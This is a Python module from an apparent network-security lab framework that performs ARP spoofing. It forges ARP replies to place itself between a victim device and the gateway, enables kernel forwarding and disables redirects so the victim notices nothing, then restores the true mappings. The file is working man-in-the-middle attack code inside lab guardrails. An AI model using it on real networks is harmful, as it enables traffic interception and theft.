"""Being taken for the gateway: forged ARP replies on the LAN, forwarded meanwhile, and put right in the end."""

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Final

from botwarden.lab import links, packets, plan, raw
from botwarden.lab.acting import Actor, Outcome
from botwarden.lab.guard import Refused

REPAIRS: Final = 3
SETTINGS: Final = {"ip_forward": "1", "conf/all/send_redirects": "0", "conf/eth0/send_redirects": "0"}
"""Of this namespace's kernel, while the victim's packets pass here."""
KERNEL: Final = Path("/proc/sys/net/ipv4")


def spoof(
    actor: Actor, /, *, victim: str = "laptop", seconds: float = 30.0, every: float = 1.0, forward: bool = True
) -> Outcome:
    """Tell a device that the gateway is here, and the gateway that the device is, again and again; then the truth."""
    own = actor.permit.device
    address = links.other(actor.permit, victim)
    device = next((one for one in plan.DEVICES if one.ip == address), None)
    if device is None or own is None:
        raise Refused(f"refused: nobody in the house can put itself between the gateway and {victim!r}")
    lies = [
        packets.arp_reply(own.mac, plan.GATEWAY_IP, device.mac, device.ip),
        packets.arp_reply(own.mac, device.ip, plan.GATEWAY_MAC, plan.GATEWAY_IP),
    ]
    truth = [
        packets.arp_reply(plan.GATEWAY_MAC, plan.GATEWAY_IP, device.mac, device.ip, own.mac),
        packets.arp_reply(device.mac, device.ip, plan.GATEWAY_MAC, plan.GATEWAY_IP, own.mac),
    ]
    told = 0
    steps = actor.permit.paced(int(seconds / max(every, 0.01)), 1 / max(every, 0.01))
    with raw.Frames(actor.permit) as out, _forwarding(forward):
        try:
            for _ in steps:
                for frame in lies:
                    out.send(frame)
                told += len(lies)
        finally:
            for frame in truth * REPAIRS:
                out.send(frame)
    said = f"{told} forged ARP replies that say that the gateway is {own.mac}, and {device.ip} too; then the truth"
    return Outcome(count=told, target=device.ip, what=said)


@contextmanager
def _forwarding(wanted: bool) -> Iterator[None]:
    """Pass on what is not for us, so that the victim notices nothing. The settings are the namespace's own."""
    before = {name: (KERNEL / name).read_text() for name in SETTINGS} if wanted else {}
    try:
        for name in before:
            (KERNEL / name).write_text(SETTINGS[name])
        yield
    finally:
        for name, value in before.items():
            (KERNEL / name).write_text(value)
